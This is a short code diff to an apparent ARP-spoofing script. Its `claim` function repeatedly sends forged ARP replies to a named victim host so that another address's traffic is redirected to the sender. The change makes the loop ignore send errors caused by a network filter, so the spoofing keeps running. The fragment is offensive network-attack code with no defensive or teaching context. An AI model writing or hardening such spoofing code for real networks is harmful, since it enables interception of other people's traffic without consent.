@@ -13,6 +13,7 @@ import subprocess
 import sys
 import threading
 import time
+from contextlib import suppress
 from ipaddress import IPv4Address
 from pathlib import Path
 
@@ -42,7 +43,8 @@ def claim(address: str, victim: str, victim_mac: str, over: threading.Event) -> 
         frame = mac(victim_mac) + own + _ARP.to_bytes(2) + _REPLY
         frame += own + IPv4Address(address).packed + mac(victim_mac) + IPv4Address(victim).packed
         while not over.wait(0.1):
-            raw.send(frame)
+            with suppress(OSError):  # the node's filter drops it
+                raw.send(frame)
 
 
 def main() -> None:
